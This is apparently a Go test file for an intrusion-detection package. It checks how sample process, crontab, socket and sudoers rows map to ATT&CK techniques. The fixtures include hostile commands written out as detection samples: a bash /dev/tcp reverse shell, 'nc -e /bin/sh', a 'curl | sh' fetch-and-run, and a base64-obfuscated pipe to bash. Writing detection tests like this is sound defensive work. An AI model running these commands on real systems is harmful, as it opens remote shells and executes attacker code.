package detect

import (
	"strings"
	"testing"

	"diffy/pkg/facts"
)

// raw makes a row of "column=value" cells.
func raw(cells ...string) facts.Raw {
	var r facts.Raw
	for _, cell := range cells {
		column, value, _ := strings.Cut(cell, "=")
		r.Columns, r.Values = append(r.Columns, column), append(r.Values, value)
	}
	return r
}

func TestTraits(t *testing.T) {
	for _, c := range []struct {
		name, query string
		row         facts.Raw
		technique   string // of the first trait; empty: none
		rule, mild  bool
	}{
		{"a shell over the network", "processes", raw("cmdline=bash -c bash -i >& /dev/tcp/203.0.113.9/443 0>&1"), "T1059.004", false, false},
		{"netcat that runs a program", "processes", raw("cmdline=nc 203.0.113.9 443 -e /bin/sh"), "T1059.004", false, false},
		{"fetched and run", "crontab", raw("command=root curl -fsSL http://203.0.113.9/x | sh"), "T1105", false, false},
		{"a file server", "processes", raw("cmdline=python3 -m http.server 8000"), "T1105", false, false},
		{"a miner, whatever its case", "processes", raw("cmdline=/opt/a --url STRATUM+TCP://pool:3333"), "T1496", false, false},
		{"hidden code", "crontab", raw("command=(echo c2g=|base64 -d)|bash"), "T1027", false, false},
		{"a preload", "processes", raw("cmdline=env LD_PRELOAD=/usr/lib/a.so sleep 1"), "T1574.006", false, false},
		{"traces removed", "processes", raw("cmdline=touch -r /bin/ls /bin/a"), "T1070", false, false},
		{"an ordinary command", "crontab", raw("command=root run-parts --report /etc/cron.daily"), "", false, false},
		{"a file run at each login", "persistence_files", raw("path=/etc/profile.d/locale-fix.sh"), "T1546.004", false, true},
		{"an application's unit", "persistence_files", raw("path=/etc/systemd/system/app.service"), "", false, false},
		{"a password", "shadow_status", raw("username=games", "password_status=active"), "T1098", false, false},
		{"no password", "shadow_status", raw("username=games", "password_status=locked"), "", false, false},
		{"a log deleted", "deleted_open_files", raw("path=/var/log/auth.log (deleted)"), "T1070.002", false, false},
		{"a log rotated", "deleted_open_files", raw("path=/var/log/app/app.log.1 (deleted)"), "", false, false},
		{"cron calls out", "open_sockets_remote", raw("path=/usr/sbin/cron", "local_port=40112", "remote_address=203.0.113.9", "remote_port=443"), "T1036.005", true, false},
		{"sshd calls out", "open_sockets_remote", raw("path=/usr/sbin/sshd", "local_port=40112", "remote_address=203.0.113.9", "remote_port=443"), "T1036.005", false, false},
		{"somebody logs in", "open_sockets_remote", raw("path=/usr/sbin/sshd", "local_port=22", "remote_address=203.0.113.9", "remote_port=20514"), "", false, false},
		{"a name sent outside", "resolvers_and_hosts", raw("kind=hosts", "a=203.0.113.9", "b=logs.corp.example"), "T1565.001", false, true},
		{"rights of the session manager", "sudoers", raw("source=/etc/sudoers.d/ssm-agent-users", "header=ssm-user", "rule_details=ALL=(ALL) NOPASSWD:ALL"), "T1548.003", false, true},
		{"the same rights for another", "sudoers", raw("source=/etc/sudoers.d/ssm-agent-users", "header=app", "rule_details=ALL=(ALL) NOPASSWD:ALL"), "T1548.003", false, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			traits := traitsOf(c.query, c.row)
			if c.technique == "" {
				if len(traits) > 0 {
					t.Fatalf("got %+v, want none", traits)
				}
				return
			}
			if len(traits) == 0 || traits[0].technique != c.technique || traits[0].rule != c.rule || traits[0].mild != c.mild {
				t.Errorf("got %+v, want technique %s, rule %v, mild %v", traits, c.technique, c.rule, c.mild)
			}
		})
	}
}

func TestUnpackedLibrary(t *testing.T) {
	for path, want := range map[string]bool{
		"/tmp/snappy-1.1.10-b0582cd9-7c7a-4a9b-aa80-969036244bde-libsnappyjava.so": true,
		"/tmp/libnetty_transport_native_epoll_x86_64711935629.so":                  true,
		"/tmp/elasticsearch-1422684/jna-2344260/jna2599973.tmp":                    true,
		"/tmp/libnss_x.so":     false,
		"/tmp/.font/snappy.so": false,
	} {
		if got := unpackedLibrary.MatchString(path); got != want {
			t.Errorf("%s: %v, want %v", path, got, want)
		}
	}
}
